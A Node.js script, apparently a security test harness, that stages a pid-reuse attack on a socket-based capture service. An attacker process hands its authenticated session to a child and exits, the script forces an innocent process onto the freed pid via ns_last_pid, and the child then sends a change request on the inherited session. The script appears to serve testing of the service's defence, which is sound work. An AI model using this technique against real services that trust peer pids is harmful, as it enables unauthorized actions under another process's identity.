// Played as the first process of a pid namespace, which may choose pids there: a program connects to the capture, gives its session to a child and ends; an innocent one gets its
// pid; then the child makes a change. Arguments: the capture's command line. Each line of standard input is a cue. Environment: SOCKET; HELLO and CHANGE, frames in hexadecimal.
import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { writeFileSync } from 'node:fs';
import { connect, createServer, Socket } from 'node:net';
import { createInterface } from 'node:readline';

const { SOCKET, HELLO, CHANGE, PART } = process.env;
/** Where the child waits for its cue: its parent's pipes end with the parent. */
const CUE = `${SOCKET}.cue`;
const bytes = (hexadecimal) => Buffer.from(hexadecimal, 'hex');

/** Has the session, and is not who connected. */
async function child() {
  const session = new Socket({ fd: 3 });
  const cue = connect(CUE);
  await once(cue, 'connect');
  process.stdout.write('child ready\n');
  await once(cue, 'data');
  session.write(bytes(CHANGE));
  const [answer] = await once(session, 'data');
  cue.end(`answered with type ${answer.readUInt16LE(4)}\n`);
}

async function attacker() {
  const session = connect(SOCKET);
  await once(session, 'connect');
  session.write(bytes(HELLO));
  await once(session, 'data');
  session.pause();
  const heir = spawn(process.execPath, [process.argv[1]], {
    stdio: ['ignore', 'pipe', 'inherit', session],
    env: { ...process.env, PART: 'child' },
  });
  await once(heir.stdout, 'data');
  process.exit();
}

/** A process with that pid, which another one had. A thread of somebody else may have taken it: then again. */
async function innocent(pid) {
  for (let tries = 0; tries < 100; tries++) {
    writeFileSync('/proc/sys/kernel/ns_last_pid', String(pid - 1));
    const other = spawn('sh', ['-c', 'read x', 'innocent'], { stdio: ['pipe', 'ignore', 'inherit'] });
    if (other.pid === pid) return other;
    other.kill('SIGKILL');
    await once(other, 'exit');
  }
  throw new Error(`pid ${pid} was not given again`);
}

async function play() {
  const cues = createInterface({ input: process.stdin })[Symbol.asyncIterator]();
  const server = createServer().listen(CUE);
  await once(server, 'listening');
  const heir = once(server, 'connection');
  const [program, ...args] = process.argv.slice(2);
  spawn(program, args, { stdio: ['pipe', 'inherit', 'inherit'] });
  await cues.next();
  const first = spawn(process.execPath, [process.argv[1]], {
    stdio: ['pipe', 'inherit', 'inherit'],
    env: { ...process.env, PART: 'attacker' },
  });
  await once(first, 'exit');
  await innocent(first.pid);
  process.stdout.write(`pid ${first.pid} is another's\n`);
  const [cue] = await heir;
  cue.pipe(process.stdout);
  cue.write('go\n');
  await cues.next();
  process.exit();
}

await { attacker, child, play }[PART ?? 'play']();
